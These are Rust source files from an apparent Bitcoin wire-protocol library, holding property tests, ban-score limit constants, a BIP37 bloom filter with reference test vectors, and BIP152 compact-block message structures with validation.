fn arb_txin() -> impl Strategy<Value = TxIn> {
    (
        arb_hash(),
        any::<u32>(),
        proptest::collection::vec(any::<u8>(), 0..64),
        any::<u32>(),
        proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..32), 0..4),
    )
        .prop_map(|(txid, vout, script_sig, sequence, witness)| TxIn {
            prevout: OutPoint::new(txid, vout),
            script_sig,
            sequence,
            witness,
        })
}

fn arb_tx() -> impl Strategy<Value = Transaction> {
    (
        any::<i32>(),
        proptest::collection::vec(arb_txin(), 1..4),
        proptest::collection::vec(
            (any::<i64>(), proptest::collection::vec(any::<u8>(), 0..32))
                .prop_map(|(v, s)| TxOut::new(v, s)),
            1..4,
        ),
        any::<u32>(),
    )
        .prop_map(|(version, inputs, outputs, lock_time)| Transaction {
            version,
            inputs,
            outputs,
            lock_time,
        })
}

fn arb_header() -> impl Strategy<Value = BlockHeader> {
    (
        any::<i32>(),
        arb_hash(),
        arb_hash(),
        any::<u32>(),
        any::<u32>(),
        any::<u32>(),
    )
        .prop_map(|(version, prev_block, merkle_root, time, bits, nonce)| BlockHeader {
            version,
            prev_block,
            merkle_root,
            time,
            bits,
            nonce,
        })
}

proptest! {
    #[test]
    fn hash_roundtrip(h in arb_hash()) {
        prop_assert_eq!(Hash256::decode_all(&h.encode_to_vec()).unwrap(), h);
    }

    #[test]
    fn hash_hex_roundtrip(h in arb_hash()) {
        prop_assert_eq!(Hash256::from_hex(&h.to_string()), Some(h));
    }

    #[test]
    fn netaddr_roundtrip(a in arb_netaddr()) {
        prop_assert_eq!(NetAddr::decode_all(&a.encode_to_vec()).unwrap(), a);
    }

    #[test]
    fn tx_roundtrip(tx in arb_tx()) {
        prop_assert_eq!(Transaction::decode_all(&tx.encode_to_vec()).unwrap(), tx);
    }

    #[test]
    fn txid_is_witness_independent(mut tx in arb_tx()) {
        let before = tx.txid();
        for i in &mut tx.inputs { i.witness.clear(); }
        prop_assert_eq!(tx.txid(), before);
    }

    #[test]
    fn block_header_roundtrip(h in arb_header()) {
        prop_assert_eq!(BlockHeader::decode_all(&h.encode_to_vec()).unwrap(), h);
    }

    #[test]
    fn block_roundtrip(header in arb_header(), txs in proptest::collection::vec(arb_tx(), 1..4)) {
        let b = Block { header, txs };
        prop_assert_eq!(Block::decode_all(&b.encode_to_vec()).unwrap(), b);
    }

    #[test]
    fn compact_size_reader_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..16)) {
        let mut r = Reader::new(&bytes);
        let _ = r.compact_size();
    }

    #[test]
    fn frame_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let _ = read_frame(Network::Regtest, &bytes);
    }

    #[test]
    fn payload_decoder_never_panics(
        cmd_idx in 0usize..btc_wire::message::ALL_COMMANDS.len(),
        bytes in proptest::collection::vec(any::<u8>(), 0..256),
    ) {
        let cmd = btc_wire::message::ALL_COMMANDS[cmd_idx];
        let _ = Message::decode_payload(cmd, &bytes);
    }

    #[test]
    fn framed_message_roundtrip(nonce in any::<u64>(), net in prop_oneof![Just(Network::Mainnet), Just(Network::Regtest)]) {
        let msg = Message::Ping(nonce);
        let raw = RawMessage::frame(net, &msg);
        let bytes = raw.to_bytes();
        match read_frame(net, &bytes).unwrap() {
            FrameResult::Frame { raw, consumed } => {
                prop_assert_eq!(consumed, bytes.len());
                prop_assert_eq!(decode_frame(&raw).unwrap(), msg);
            }
            FrameResult::Incomplete => prop_assert!(false, "incomplete"),
        }
    }

    #[test]
    fn corrupted_byte_never_decodes_silently(
        nonce in any::<u64>(),
        flip in 0usize..32,
    ) {
        // Flip one payload or checksum byte of a framed ping: decode must
        // fail (checksum) or — if we flipped inside the header length/magic —
        // framing fails. It must never return a *different* valid message.
        let msg = Message::Ping(nonce);
        let raw = RawMessage::frame(Network::Regtest, &msg);
        let mut bytes = raw.to_bytes().to_vec();
        let idx = flip % bytes.len();
        bytes[idx] ^= 0x01;
        match read_frame(Network::Regtest, &bytes) {
            Ok(FrameResult::Frame { raw, .. }) => {
                // If the frame still decodes, the flip must not have
                // produced a *different* valid message.
                if let Ok(decoded) = decode_frame(&raw) {
                    prop_assert_eq!(decoded, msg);
                }
            }
            Ok(FrameResult::Incomplete) | Err(_) => {}
        }
    }

    #[test]
    fn version_roundtrip(
        a in arb_netaddr(), b in arb_netaddr(), nonce in any::<u64>(),
        height in any::<i32>(), relay in any::<bool>(),
    ) {
        let mut v = VersionMessage::new(a, b, nonce);
        v.start_height = height;
        v.relay = relay;
        prop_assert_eq!(VersionMessage::decode_all(&v.encode_to_vec()).unwrap(), v);
    }

    #[test]
    fn inventory_vec_roundtrip(hashes in proptest::collection::vec(arb_hash(), 0..32)) {
        let invs: Vec<Inventory> = hashes.into_iter().map(|h| Inventory::new(InvType::Tx, h)).collect();
        let msg = Message::Inv(invs);
        let payload = msg.encode_payload();
        prop_assert_eq!(Message::decode_payload("inv", &payload).unwrap(), msg);
    }

    #[test]
    fn headers_roundtrip(headers in proptest::collection::vec(arb_header(), 0..16)) {
        let msg = Message::Headers(headers.into_iter().map(HeadersEntry).collect());
        let payload = msg.encode_payload();
        prop_assert_eq!(Message::decode_payload("headers", &payload).unwrap(), msg);
    }

    #[test]
    fn addr_roundtrip(addrs in proptest::collection::vec((any::<u32>(), arb_netaddr()), 0..16)) {
        let msg = Message::Addr(addrs.into_iter().map(|(time, addr)| TimestampedAddr { time, addr }).collect());
        let payload = msg.encode_payload();
        prop_assert_eq!(Message::decode_payload("addr", &payload).unwrap(), msg);
    }

    #[test]
    fn locator_roundtrip(hashes in proptest::collection::vec(arb_hash(), 0..32), stop in arb_hash(), ver in any::<u32>()) {
        let loc = BlockLocator { version: ver, hashes, stop };
        prop_assert_eq!(BlockLocator::decode_all(&loc.encode_to_vec()).unwrap(), loc);
    }

    #[test]
    fn getblocktxn_differential_inverse(mut idxs in proptest::collection::btree_set(0u64..10_000, 1..64)) {
        let absolute: Vec<u64> = idxs.iter().copied().collect();
        idxs.clear();
        let req = BlockTxnRequest::from_absolute(Hash256::ZERO, &absolute);
        let max = absolute.last().copied().unwrap() + 1;
        prop_assert_eq!(req.absolute_indices(max).unwrap(), absolute);
    }

    #[test]
    fn sendcmpct_roundtrip(announce in any::<bool>(), version in any::<u64>()) {
        let sc = SendCmpct { announce, version };
        prop_assert_eq!(SendCmpct::decode_all(&sc.encode_to_vec()).unwrap(), sc);
    }

    #[test]
    fn merkle_root_is_order_sensitive(hashes in proptest::collection::vec(arb_hash(), 2..16)) {
        let root = btc_wire::block::merkle_root(&hashes);
        let mut swapped = hashes.clone();
        swapped.swap(0, 1);
        if hashes[0] != hashes[1] {
            prop_assert_ne!(btc_wire::block::merkle_root(&swapped), root);
        }
    }
}

proptest! {
    #[test]
    fn sha256_incremental_equals_oneshot(
        data in proptest::collection::vec(any::<u8>(), 0..2048),
        splits in proptest::collection::vec(0usize..2048, 0..8),
    ) {
        use btc_wire::crypto::sha256::{sha256, Sha256};
        let mut h = Sha256::new();
        let mut cuts: Vec<usize> = splits.into_iter().map(|s| s % (data.len() + 1)).collect();
        cuts.sort_unstable();
        let mut prev = 0;
        for c in cuts {
            h.update(&data[prev..c]);
            prev = c;
        }
        h.update(&data[prev..]);
        prop_assert_eq!(h.finalize(), sha256(&data));
    }

    #[test]
    fn siphash_incremental_equals_oneshot(
        k0 in any::<u64>(),
        k1 in any::<u64>(),
        data in proptest::collection::vec(any::<u8>(), 0..256),
        cut in 0usize..256,
    ) {
        use btc_wire::crypto::siphash::{siphash24, SipHasher24};
        let cut = cut % (data.len() + 1);
        let mut h = SipHasher24::new(k0, k1);
        h.update(&data[..cut]);
        h.update(&data[cut..]);
        prop_assert_eq!(h.finish(), siphash24(k0, k1, &data));
    }

    #[test]
    fn bloom_filter_has_no_false_negatives(
        items in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 1..64), 1..64),
        tweak in any::<u32>(),
    ) {
        use btc_wire::bloom::{BloomFilter, BloomFlags};
        let mut f = BloomFilter::new(items.len(), 0.01, tweak, BloomFlags::None);
        for item in &items {
            f.insert(item);
        }
        for item in &items {
            prop_assert!(f.contains(item), "lost {item:?}");
        }
    }

    #[test]
    fn merkle_branch_proves_arbitrary_leaves(
        n in 1usize..32,
        pick in 0usize..32,
    ) {
        use btc_wire::block::{merkle_root, MerkleBranch};
        let leaves: Vec<Hash256> = (0..n).map(|i| Hash256::hash(&[i as u8, 0x5A])).collect();
        let index = pick % n;
        let root = merkle_root(&leaves);
        let branch = MerkleBranch::build(&leaves, index);
        prop_assert_eq!(branch.compute_root(leaves[index]), root);
    }

    #[test]
    fn compact_size_canonical_encoding_is_minimal(v in any::<u64>()) {
        use btc_wire::encode::Writer;
        let mut w = Writer::new();
        w.compact_size(v);
        let expect = match v {
            0..=0xfc => 1,
            0xfd..=0xffff => 3,
            0x1_0000..=0xffff_ffff => 5,
            _ => 9,
        };
        prop_assert_eq!(w.len(), expect);
    }
}
