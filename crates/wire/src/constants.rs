//! Protocol limits referenced by the ban-score rules (Table I of the paper)
//! and by message decoding.

/// Regtest-style easy difficulty target used by the simulated chain so block
/// mining is instant in tests.
pub const REGTEST_BITS: u32 = 0x207f_ffff;

/// Maximum `ADDR` entries per message; more is the Table-I "oversize" rule
/// (+20).
pub const MAX_ADDR_TO_SEND: u64 = 1_000;

/// Maximum `INV`/`GETDATA`/`NOTFOUND` entries per message; more is the
/// Table-I "oversize" rule (+20).
pub const MAX_INV_SZ: u64 = 50_000;

/// Maximum `HEADERS` entries per message; more is the Table-I "oversize"
/// rule (+20).
pub const MAX_HEADERS_RESULTS: u64 = 2_000;

/// Maximum serialized bloom filter size in bytes (BIP37); larger
/// `FILTERLOAD` is the Table-I rule (+100).
pub const MAX_BLOOM_FILTER_SIZE: u64 = 36_000;

/// Maximum bloom filter hash function count (BIP37).
pub const MAX_HASH_FUNCS: u32 = 50;

/// Maximum `FILTERADD` data element size in bytes; larger is the Table-I
/// rule (+100).
pub const MAX_FILTERADD_SIZE: u64 = 520;

/// Number of non-connecting `HEADERS` messages tolerated before the +20
/// "disorder" penalty fires.
pub const MAX_UNCONNECTING_HEADERS: u32 = 10;

/// Ban-score threshold: reaching it disconnects and bans the peer.
pub const DEFAULT_BANSCORE_THRESHOLD: u32 = 100;

/// Default ban duration in seconds (24 hours).
pub const DEFAULT_BANTIME_SECS: u64 = 24 * 60 * 60;

/// Maximum inbound peer slots of a default node.
pub const MAX_INBOUND_CONNECTIONS: usize = 117;

/// Maximum outbound peer slots of a default node.
pub const MAX_OUTBOUND_CONNECTIONS: usize = 8;

/// Feeler/total connection budget (117 inbound + 8 outbound + overhead).
pub const MAX_TOTAL_CONNECTIONS: usize = 128;
