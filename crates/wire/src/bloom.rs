//! BIP37 bloom filters (`FILTERLOAD` / `FILTERADD` / `FILTERCLEAR`).
//!
//! Two of Table I's +100 rules live here: a `FILTERLOAD` whose serialized
//! filter exceeds 36 000 bytes, and a `FILTERADD` data element over 520
//! bytes.

use crate::constants::{MAX_BLOOM_FILTER_SIZE, MAX_FILTERADD_SIZE, MAX_HASH_FUNCS};
use crate::crypto::murmur3_32;
use crate::encode::{Decodable, DecodeResult, Encodable, Reader, Writer};

/// What the filter should do with outpoints of matched transactions.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum BloomFlags {
    /// Never update the filter.
    #[default]
    None,
    /// Insert outpoints of all matches.
    All,
    /// Insert outpoints of pubkey-ish matches only.
    PubkeyOnly,
    /// Unknown flag byte, preserved for round-tripping.
    Other(u8),
}

impl BloomFlags {
    fn to_u8(self) -> u8 {
        match self {
            BloomFlags::None => 0,
            BloomFlags::All => 1,
            BloomFlags::PubkeyOnly => 2,
            BloomFlags::Other(v) => v,
        }
    }

    fn from_u8(v: u8) -> Self {
        match v {
            0 => BloomFlags::None,
            1 => BloomFlags::All,
            2 => BloomFlags::PubkeyOnly,
            other => BloomFlags::Other(other),
        }
    }
}

/// A BIP37 bloom filter as carried by `FILTERLOAD`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct BloomFilter {
    /// Filter bit array.
    pub data: Vec<u8>,
    /// Number of hash functions.
    pub n_hash_funcs: u32,
    /// Random tweak added to each hash seed.
    pub tweak: u32,
    /// Update behaviour.
    pub flags: BloomFlags,
}

impl BloomFilter {
    /// Builds a filter sized for `n_elements` at false-positive rate `fp`,
    /// using exactly Bitcoin Core's `CBloomFilter` sizing arithmetic
    /// (integer truncation included) so serialized filters match Core's.
    pub fn new(n_elements: usize, fp: f64, tweak: u32, flags: BloomFlags) -> Self {
        let ln2sq = std::f64::consts::LN_2 * std::f64::consts::LN_2;
        let n = n_elements.max(1) as f64;
        let bits = (-1.0 / ln2sq * n * fp.ln()).min((MAX_BLOOM_FILTER_SIZE * 8) as f64);
        let bytes = ((bits as u64) / 8).max(1) as usize;
        // lint:allow(narrowing-cast): Core's CBloomFilter sizing truncates the same way; clamped below
        let funcs = ((bytes as f64 * 8.0 / n) * std::f64::consts::LN_2) as u32;
        BloomFilter {
            data: vec![0u8; bytes],
            n_hash_funcs: funcs.clamp(1, MAX_HASH_FUNCS),
            tweak,
            flags,
        }
    }

    /// The `i`-th bit position for `item`.
    fn bit(&self, i: u32, item: &[u8]) -> usize {
        let seed = i.wrapping_mul(0xFBA4_C795).wrapping_add(self.tweak);
        (murmur3_32(seed, item) as usize) % (self.data.len() * 8)
    }

    /// Inserts `item`.
    pub fn insert(&mut self, item: &[u8]) {
        if self.data.is_empty() {
            return;
        }
        for i in 0..self.n_hash_funcs {
            let b = self.bit(i, item);
            if let Some(byte) = self.data.get_mut(b / 8) {
                *byte |= 1 << (b % 8);
            }
        }
    }

    /// Whether `item` may be in the filter (false positives possible, false
    /// negatives impossible).
    pub fn contains(&self, item: &[u8]) -> bool {
        if self.data.is_empty() {
            return false;
        }
        (0..self.n_hash_funcs).all(|i| {
            let b = self.bit(i, item);
            self.data
                .get(b / 8)
                .is_some_and(|byte| byte & (1 << (b % 8)) != 0)
        })
    }

    /// Whether the filter respects the BIP37 size limits. Oversized filters
    /// are exactly the Table-I `FILTERLOAD` +100 misbehavior.
    pub fn is_within_size_constraints(&self) -> bool {
        self.data.len() as u64 <= MAX_BLOOM_FILTER_SIZE
            && self.n_hash_funcs <= MAX_HASH_FUNCS
    }
}

impl Encodable for BloomFilter {
    fn encode(&self, w: &mut Writer) {
        w.var_bytes(&self.data);
        w.u32_le(self.n_hash_funcs);
        w.u32_le(self.tweak);
        w.u8(self.flags.to_u8());
    }
}

impl Decodable for BloomFilter {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        // Decode permits oversized filters: the *ban-score layer* must see
        // them to punish the sender (dropping at decode would hide the
        // misbehavior, which is vector 2 of the paper).
        let data = r.var_bytes("bloom data", MAX_BLOOM_FILTER_SIZE * 4)?;
        Ok(BloomFilter {
            data,
            n_hash_funcs: r.u32_le()?,
            tweak: r.u32_le()?,
            flags: BloomFlags::from_u8(r.u8()?),
        })
    }
}

/// A `FILTERADD` payload: one data element to insert into the loaded filter.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct FilterAdd {
    /// The element (txid, pubkey, etc.).
    pub data: Vec<u8>,
}

impl FilterAdd {
    /// Whether the element respects the 520-byte limit (Table-I rule).
    pub fn is_within_size_constraints(&self) -> bool {
        self.data.len() as u64 <= MAX_FILTERADD_SIZE
    }
}

impl Encodable for FilterAdd {
    fn encode(&self, w: &mut Writer) {
        w.var_bytes(&self.data);
    }
}

impl Decodable for FilterAdd {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(FilterAdd {
            data: r.var_bytes("filteradd data", MAX_FILTERADD_SIZE * 4)?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn insert_then_contains() {
        let mut f = BloomFilter::new(100, 0.01, 0, BloomFlags::None);
        for i in 0..100u32 {
            f.insert(&i.to_le_bytes());
        }
        for i in 0..100u32 {
            assert!(f.contains(&i.to_le_bytes()), "lost element {i}");
        }
    }

    #[test]
    fn false_positive_rate_reasonable() {
        let mut f = BloomFilter::new(1000, 0.01, 7, BloomFlags::None);
        for i in 0..1000u32 {
            f.insert(&i.to_le_bytes());
        }
        let fps = (1000..11_000u32)
            .filter(|i| f.contains(&i.to_le_bytes()))
            .count();
        // 1% nominal; allow generous slack.
        assert!(fps < 500, "false positive count {fps} too high");
    }

    #[test]
    fn tweak_changes_bits() {
        let mut a = BloomFilter::new(10, 0.01, 0, BloomFlags::None);
        let mut b = BloomFilter::new(10, 0.01, 12345, BloomFlags::None);
        a.insert(b"item");
        b.insert(b"item");
        assert_ne!(a.data, b.data);
    }

    #[test]
    fn size_constraints() {
        let ok = BloomFilter {
            data: vec![0; 36_000],
            n_hash_funcs: 50,
            tweak: 0,
            flags: BloomFlags::None,
        };
        assert!(ok.is_within_size_constraints());
        let big = BloomFilter {
            data: vec![0; 36_001],
            ..ok.clone()
        };
        assert!(!big.is_within_size_constraints());
        let many = BloomFilter {
            n_hash_funcs: 51,
            ..ok
        };
        assert!(!many.is_within_size_constraints());
    }

    #[test]
    fn oversized_filter_still_decodes() {
        // The ban-score layer must observe oversized filters.
        let big = BloomFilter {
            data: vec![0xaa; 36_001],
            n_hash_funcs: 1,
            tweak: 0,
            flags: BloomFlags::None,
        };
        let enc = big.encode_to_vec();
        let dec = BloomFilter::decode_all(&enc).unwrap();
        assert!(!dec.is_within_size_constraints());
    }

    #[test]
    fn filteradd_size_rule() {
        assert!(FilterAdd { data: vec![0; 520] }.is_within_size_constraints());
        assert!(!FilterAdd { data: vec![0; 521] }.is_within_size_constraints());
    }

    #[test]
    fn roundtrip() {
        let mut f = BloomFilter::new(5, 0.001, 99, BloomFlags::All);
        f.insert(b"tx");
        let dec = BloomFilter::decode_all(&f.encode_to_vec()).unwrap();
        assert_eq!(dec, f);
        assert!(dec.contains(b"tx"));
    }

    #[test]
    fn bip37_reference_filter() {
        // Bitcoin Core bloom_tests.cpp "bloom_create_insert_serialize":
        // CBloomFilter(3, 0.01, 0, BLOOM_UPDATE_ALL) with three items
        // serializes to 03614e9b 05000000 00000000 01.
        fn unhex(s: &str) -> Vec<u8> {
            (0..s.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
                .collect()
        }
        let mut f = BloomFilter::new(3, 0.01, 0, BloomFlags::All);
        assert_eq!(f.data.len(), 3);
        assert_eq!(f.n_hash_funcs, 5);
        f.insert(&unhex("99108ad8ed9bb6274d3980bab5a85c048f0950c8"));
        assert!(f.contains(&unhex("99108ad8ed9bb6274d3980bab5a85c048f0950c8")));
        // One bit different: must not match.
        assert!(!f.contains(&unhex("19108ad8ed9bb6274d3980bab5a85c048f0950c8")));
        f.insert(&unhex("b5a2c786d9ef4658287ced5914b37a1b4aa32eee"));
        f.insert(&unhex("b9300670b4c5366e95b2699e8b18bc75e5f729c5"));
        assert_eq!(f.data, unhex("614e9b"));
        assert_eq!(f.encode_to_vec(), unhex("03614e9b0500000000000000" ).iter().chain(&[1u8]).copied().collect::<Vec<u8>>());
    }

    #[test]
    fn bip37_reference_filter_with_tweak() {
        // Same vectors with tweak 2147483649 → data 614e9b with identical
        // layout (Core's second test case, "bloom_create_insert_serialize_with_tweak").
        fn unhex(s: &str) -> Vec<u8> {
            (0..s.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
                .collect()
        }
        let mut f = BloomFilter::new(3, 0.01, 2_147_483_649, BloomFlags::All);
        f.insert(&unhex("99108ad8ed9bb6274d3980bab5a85c048f0950c8"));
        assert!(f.contains(&unhex("99108ad8ed9bb6274d3980bab5a85c048f0950c8")));
        assert!(!f.contains(&unhex("19108ad8ed9bb6274d3980bab5a85c048f0950c8")));
        f.insert(&unhex("b5a2c786d9ef4658287ced5914b37a1b4aa32eee"));
        f.insert(&unhex("b9300670b4c5366e95b2699e8b18bc75e5f729c5"));
        assert_eq!(f.data, unhex("ce4299"));
    }

    #[test]
    fn empty_filter_contains_nothing() {
        let f = BloomFilter {
            data: vec![],
            n_hash_funcs: 3,
            tweak: 0,
            flags: BloomFlags::None,
        };
        assert!(!f.contains(b"anything"));
    }
}
