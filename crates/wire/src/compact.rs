//! BIP152 compact block relay: `SENDCMPCT`, `CMPCTBLOCK`, `GETBLOCKTXN`,
//! `BLOCKTXN`.
//!
//! Table I's `GETBLOCKTXN` rule ("out-of-bounds transaction indices", +100)
//! and `CMPCTBLOCK` rule ("invalid compact block data", +100) are validated
//! against the structures here.

use crate::block::{Block, BlockHeader};
use crate::crypto::{sha256_digest, siphash24};
use crate::encode::{
    decode_vec, encode_vec, Decodable, DecodeError, DecodeResult, Encodable, Reader, Writer,
};
use crate::tx::Transaction;
use crate::types::Hash256;

/// Maximum short-id / index count in one compact-block structure.
const MAX_CMPCT_ITEMS: u64 = 1_000_000;

/// A 6-byte transaction short ID.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct ShortId(pub [u8; 6]);

impl Encodable for ShortId {
    fn encode(&self, w: &mut Writer) {
        w.bytes(&self.0);
    }
}

impl Decodable for ShortId {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(ShortId(r.array()?))
    }
}

/// Computes the BIP152 SipHash keys for a header/nonce pair.
///
/// The 88-byte preimage (80-byte header + nonce) is assembled on the stack
/// via [`BlockHeader::to_bytes`] — no `Writer` allocation per compact block.
pub fn short_id_keys(header: &BlockHeader, nonce: u64) -> (u64, u64) {
    let mut buf = [0u8; 88];
    let (head, tail) = buf.split_at_mut(80);
    head.copy_from_slice(&header.to_bytes());
    tail.copy_from_slice(&nonce.to_le_bytes());
    let h = sha256_digest(&buf);
    let (k0, rest) = h.split_first_chunk::<8>().unwrap_or((&[0; 8], &[]));
    let k1 = rest.first_chunk::<8>().copied().unwrap_or_default();
    (u64::from_le_bytes(*k0), u64::from_le_bytes(k1))
}

/// Computes the 6-byte short ID of a wtxid under `(k0, k1)`.
pub fn short_id(keys: (u64, u64), wtxid: &Hash256) -> ShortId {
    let tag = siphash24(keys.0, keys.1, wtxid.as_bytes());
    ShortId(tag.to_le_bytes().first_chunk().copied().unwrap_or_default())
}

/// A transaction pre-filled into a compact block, with a differentially
/// encoded index.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct PrefilledTx {
    /// Differential index (BIP152: offset from the previous prefilled index
    /// plus one).
    pub diff_index: u64,
    /// The transaction.
    pub tx: Transaction,
}

impl Encodable for PrefilledTx {
    fn encode(&self, w: &mut Writer) {
        w.compact_size(self.diff_index);
        self.tx.encode(w);
    }
}

impl Decodable for PrefilledTx {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(PrefilledTx {
            diff_index: r.compact_size()?,
            tx: Transaction::decode(r)?,
        })
    }
}

/// A `CMPCTBLOCK` payload.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct CompactBlock {
    /// The block header.
    pub header: BlockHeader,
    /// SipHash key salt.
    pub nonce: u64,
    /// Short IDs of non-prefilled transactions.
    pub short_ids: Vec<ShortId>,
    /// Prefilled transactions (always includes the coinbase).
    pub prefilled: Vec<PrefilledTx>,
}

impl CompactBlock {
    /// Builds a compact block from a full block, prefilled with only the
    /// coinbase (index 0), as Bitcoin Core does for announcements.
    pub fn from_block(block: &Block, nonce: u64) -> Self {
        let keys = short_id_keys(&block.header, nonce);
        let short_ids = block
            .txs
            .iter()
            .skip(1)
            .map(|tx| short_id(keys, &tx.wtxid()))
            .collect();
        // A block with no coinbase yields no prefill; check() rejects it.
        let prefilled = block
            .txs
            .first()
            .map(|coinbase| {
                vec![PrefilledTx {
                    diff_index: 0,
                    tx: coinbase.clone(),
                }]
            })
            .unwrap_or_default();
        CompactBlock {
            header: block.header,
            nonce,
            short_ids,
            prefilled,
        }
    }

    /// Total transaction count the compact block claims.
    pub fn tx_count(&self) -> usize {
        self.short_ids.len() + self.prefilled.len()
    }

    /// Absolute indices of prefilled transactions, or an error when the
    /// differential encoding overflows / collides — the "invalid compact
    /// block data" condition of Table I.
    ///
    /// # Errors
    ///
    /// A static description of the defect.
    pub fn prefilled_indices(&self) -> Result<Vec<usize>, &'static str> {
        let mut out = Vec::with_capacity(self.prefilled.len());
        let mut next: u64 = 0;
        for p in &self.prefilled {
            let idx = next
                .checked_add(p.diff_index)
                .ok_or("cmpctblock-index-overflow")?;
            if idx >= self.tx_count() as u64 {
                return Err("cmpctblock-index-out-of-range");
            }
            out.push(idx as usize);
            next = idx + 1;
        }
        Ok(out)
    }

    /// Structural validation of the compact block itself (not the underlying
    /// block): header PoW and index sanity.
    ///
    /// # Errors
    ///
    /// The first violated rule.
    pub fn check(&self) -> Result<(), &'static str> {
        if !self.header.check_pow() {
            return Err("high-hash");
        }
        if self.prefilled.is_empty() {
            return Err("cmpctblock-no-prefilled");
        }
        self.prefilled_indices()?;
        Ok(())
    }

    /// Attempts to reconstruct the full block from a transaction pool keyed
    /// by short ID. Returns the indices still missing if incomplete.
    ///
    /// # Errors
    ///
    /// `Err(missing)` lists absolute indices to request via `GETBLOCKTXN`.
    pub fn reconstruct(
        &self,
        pool: &dyn Fn(&ShortId) -> Option<Transaction>,
    ) -> Result<Block, Vec<u64>> {
        let n = self.tx_count();
        let mut txs: Vec<Option<Transaction>> = vec![None; n];
        let indices = self.prefilled_indices().map_err(|_| Vec::new())?;
        for (idx, p) in indices.iter().zip(&self.prefilled) {
            if let Some(slot) = txs.get_mut(*idx) {
                *slot = Some(p.tx.clone());
            }
        }
        let mut sid_iter = self.short_ids.iter();
        let mut missing = Vec::new();
        for (i, slot) in txs.iter_mut().enumerate() {
            if slot.is_some() {
                continue;
            }
            // A compact block claiming fewer short IDs than empty slots is
            // malformed peer data; the unmatched slots count as missing.
            match sid_iter.next().and_then(|sid| pool(sid)) {
                Some(tx) => *slot = Some(tx),
                None => missing.push(i as u64),
            }
        }
        if !missing.is_empty() {
            return Err(missing);
        }
        Ok(Block {
            header: self.header,
            // Every slot is Some once `missing` is empty.
            txs: txs.into_iter().flatten().collect(),
        })
    }
}

impl Encodable for CompactBlock {
    fn encode(&self, w: &mut Writer) {
        self.header.encode(w);
        w.u64_le(self.nonce);
        encode_vec(w, &self.short_ids);
        encode_vec(w, &self.prefilled);
    }
}

impl Decodable for CompactBlock {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(CompactBlock {
            header: BlockHeader::decode(r)?,
            nonce: r.u64_le()?,
            short_ids: decode_vec(r, "short ids", MAX_CMPCT_ITEMS)?,
            prefilled: decode_vec(r, "prefilled txs", MAX_CMPCT_ITEMS)?,
        })
    }
}

/// A `GETBLOCKTXN` payload: request transactions of `block_hash` at the
/// (differentially encoded) `indices`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct BlockTxnRequest {
    /// Which block.
    pub block_hash: Hash256,
    /// Differentially encoded indices.
    pub diff_indices: Vec<u64>,
}

impl BlockTxnRequest {
    /// Builds a request from absolute indices, which must be strictly
    /// increasing; out-of-order entries are dropped rather than encoded as
    /// garbage.
    pub fn from_absolute(block_hash: Hash256, absolute: &[u64]) -> Self {
        let mut diff = Vec::with_capacity(absolute.len());
        let mut prev: Option<u64> = None;
        for &idx in absolute {
            match prev {
                None => diff.push(idx),
                Some(p) => {
                    let Some(d) = idx.checked_sub(p).and_then(|gap| gap.checked_sub(1)) else {
                        continue;
                    };
                    diff.push(d);
                }
            }
            prev = Some(idx);
        }
        BlockTxnRequest {
            block_hash,
            diff_indices: diff,
        }
    }

    /// Decodes to absolute indices, validating against `tx_count`.
    ///
    /// An out-of-bounds index here is exactly Table I's `GETBLOCKTXN` +100
    /// rule.
    ///
    /// # Errors
    ///
    /// `"getblocktxn-out-of-bounds"` on overflow or out-of-range indices.
    pub fn absolute_indices(&self, tx_count: u64) -> Result<Vec<u64>, &'static str> {
        let mut out = Vec::with_capacity(self.diff_indices.len());
        let mut next: u64 = 0;
        for &d in &self.diff_indices {
            let idx = next.checked_add(d).ok_or("getblocktxn-out-of-bounds")?;
            if idx >= tx_count {
                return Err("getblocktxn-out-of-bounds");
            }
            out.push(idx);
            next = idx + 1;
        }
        Ok(out)
    }
}

impl Encodable for BlockTxnRequest {
    fn encode(&self, w: &mut Writer) {
        self.block_hash.encode(w);
        w.compact_size(self.diff_indices.len() as u64);
        for &d in &self.diff_indices {
            w.compact_size(d);
        }
    }
}

impl Decodable for BlockTxnRequest {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        let block_hash = Hash256::decode(r)?;
        let n = r.bounded_compact_size("getblocktxn indices", MAX_CMPCT_ITEMS)?;
        let mut diff_indices = Vec::with_capacity((n as usize).min(crate::encode::MAX_VEC_PREALLOC));
        for _ in 0..n {
            diff_indices.push(r.compact_size()?);
        }
        Ok(BlockTxnRequest {
            block_hash,
            diff_indices,
        })
    }
}

/// A `BLOCKTXN` payload: the transactions answering a `GETBLOCKTXN`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct BlockTxn {
    /// Which block.
    pub block_hash: Hash256,
    /// The requested transactions, in request order.
    pub txs: Vec<Transaction>,
}

impl Encodable for BlockTxn {
    fn encode(&self, w: &mut Writer) {
        self.block_hash.encode(w);
        encode_vec(w, &self.txs);
    }
}

impl Decodable for BlockTxn {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(BlockTxn {
            block_hash: Hash256::decode(r)?,
            txs: decode_vec(r, "blocktxn txs", MAX_CMPCT_ITEMS)?,
        })
    }
}

/// A `SENDCMPCT` payload.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct SendCmpct {
    /// Whether the peer asks for high-bandwidth announcement mode.
    pub announce: bool,
